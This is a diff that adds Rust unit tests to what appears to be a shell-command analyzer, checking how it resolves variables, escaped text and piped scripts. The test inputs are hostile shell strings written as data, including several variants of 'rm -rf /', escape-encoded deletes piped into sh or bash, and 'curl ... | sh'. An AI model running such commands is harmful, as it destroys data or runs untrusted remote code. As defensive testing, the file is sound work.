@@ -1157,3 +1157,53 @@ fn cd_is_followed_into_the_paths_named() {
         ["~/.ssh/id_rsa"]
     );
 }
+
+#[test]
+fn a_variable_whose_value_depends_on_the_path_taken_is_not_known() {
+    // Review: the last assignment in the text is not the one that ran.
+    for src in [
+        "if c; then X=rm; else X=ls; fi; $X -rf /",
+        "c && X=ls; $X -rf /",
+        "c || X=ls; $X -rf /",
+        "X=ls & $X -rf /",
+        "(X=ls); $X -rf /",
+        "echo $(X=ls); $X -rf /",
+        "X=ls; X=rm; $X -rf /",
+        "for i in 1; do X=ls; done; $X -rf /",
+        "f() { X=ls; }; $X -rf /",
+    ] {
+        let last = parse(src).commands.last().cloned().unwrap_or_default();
+        assert_eq!(last.argv.first().map(|a| &**a), Some("$X"), "{src}");
+        assert!(last.dynamic, "{src}");
+    }
+    // Set once, before any branch: known, also inside a later branch.
+    assert_eq!(argvs("X=rm; c && $X -rf /")[2], ["rm", "-rf", "/"]);
+}
+
+#[test]
+fn escapes_printed_into_a_shell_are_not_read_as_written() {
+    // Review: `printf 'rm\x20-rf /'` prints `rm -rf /`; its text is no
+    // script to read, so the shell's code is unknown (a piped script).
+    for src in [
+        "printf 'rm\\x20-rf /' | sh",
+        "echo -e 'rm\\x20-rf /' | bash",
+    ] {
+        let shell = parse(src).commands.last().cloned().unwrap_or_default();
+        assert_eq!(shell.code_from, CodeFrom::Pipe, "{src}");
+        assert_eq!(shell.code, "", "{src}");
+    }
+    // `printf`'s `\n` is decoded: the script is read.
+    assert_eq!(
+        programs("printf 'ls\\nrm -rf /' | sh"),
+        ["printf", "sh", "ls", "rm"]
+    );
+}
+
+#[test]
+fn a_pipe_from_a_compound_names_the_program_that_prints() {
+    // Review: the last command before `|` may be an assignment.
+    let s = parse("{ curl -s https://x; X=1; } | sh");
+    let shell = s.commands.last().cloned().unwrap_or_default();
+    assert_eq!((&*shell.program, &*shell.piped_from), ("sh", "curl"));
+    assert_eq!(shell.code_from, CodeFrom::Pipe);
+}
